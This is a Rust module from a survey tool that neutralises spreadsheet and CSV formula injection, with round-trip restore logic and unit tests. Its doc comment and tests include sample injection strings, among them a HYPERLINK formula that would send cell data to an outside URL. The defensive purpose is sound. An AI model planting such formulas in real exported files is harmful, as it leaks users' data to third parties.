//! Text written into a spreadsheet cell or a CSV field, kept as text.
//!
//! Survey text and answers may come from anyone (a respondent, a third party's SurveyJS or
//! XLSForm file), and a spreadsheet program evaluates a cell that starts with `=` as a formula:
//! `=HYPERLINK("https://…?x="&A1,"Click")` would send a translator's or organiser's data
//! elsewhere. Every CSV and spreadsheet writer goes through [`neutralise`] (OWASP's advice on
//! CSV injection), and every reader of a file we wrote goes through [`restore`].

use std::borrow::Cow;

/// A leading `'` for a value a spreadsheet would take for a formula: one that starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return, unless it is a plain number such as `-3` or
/// `+4.5`, which no spreadsheet evaluates. A value that already starts with `'` gets a second
/// one, so that [`restore`] gives back exactly what was written.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if is_risky(value) || value.starts_with('\'') {
        format!("'{value}").into()
    } else {
        value.into()
    }
}

/// Writes `value` into a spreadsheet cell as text, in `format`: neutralised (above), and read back
/// as typed.
///
/// rust_xlsxwriter takes a string shaped `<r>…</r>` for rich text it made itself and writes it
/// into the workbook unescaped: typed by someone, such a text would show as something else, or,
/// not well-formed, make the spreadsheet program repair the file and drop what it cannot read.
/// So that text is written as rich text of one plain run, which rust_xlsxwriter escapes: read
/// back, it is the same characters, in the cell's own font.
#[cfg(feature = "spreadsheet")]
pub fn write(
    sheet: &mut rust_xlsxwriter::Worksheet,
    row: u32,
    column: u16,
    value: &str,
    format: &rust_xlsxwriter::Format,
) -> Result<(), rust_xlsxwriter::XlsxError> {
    let value = neutralise(value);
    if value.starts_with("<r>") && value.ends_with("</r>") {
        let plain = rust_xlsxwriter::Format::default();
        sheet.write_rich_string_with_format(row, column, &[(&plain, &value)], format)?;
    } else {
        sheet.write_string_with_format(row, column, value, format)?;
    }
    Ok(())
}

/// What [`neutralise`] was given: the leading `'` it added taken off again.
pub fn restore(value: &str) -> Cow<'_, str> {
    match value.strip_prefix('\'') {
        Some(rest) if is_risky(rest) || rest.starts_with('\'') => rest.into(),
        _ => value.into(),
    }
}

/// A value as one CSV field: neutralised against formulas, then quoted if it needs to be.
pub fn csv_field(value: &str) -> String {
    let value = neutralise(value);
    if value.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.into_owned()
    }
}

fn is_risky(value: &str) -> bool {
    value.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(value)
}

/// `-12`, `+3.5`, `-0.25`: an optional sign, digits, and an optional fraction.
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix(['-', '+']).unwrap_or(value);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_kept_as_text() {
        for risky in ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"https://x\",\"Click\")"] {
            assert_eq!(neutralise(risky), format!("'{risky}"), "{risky:?}");
        }
        for plain in ["-3", "+4.5", "12", "hello", "", "a=b"] {
            assert_eq!(neutralise(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn what_was_neutralised_is_restored_exactly() {
        for text in ["=1+1", "'=1+1", "''x", "'quoted'", "-3", "-x", "plain", "", "'"] {
            assert_eq!(restore(&neutralise(text)), text, "{text:?}");
        }
    }

    #[test]
    fn csv_fields_are_quoted_when_they_must_be() {
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("=1,2"), "\"'=1,2\"");
        assert_eq!(csv_field("plain"), "plain");
    }
}
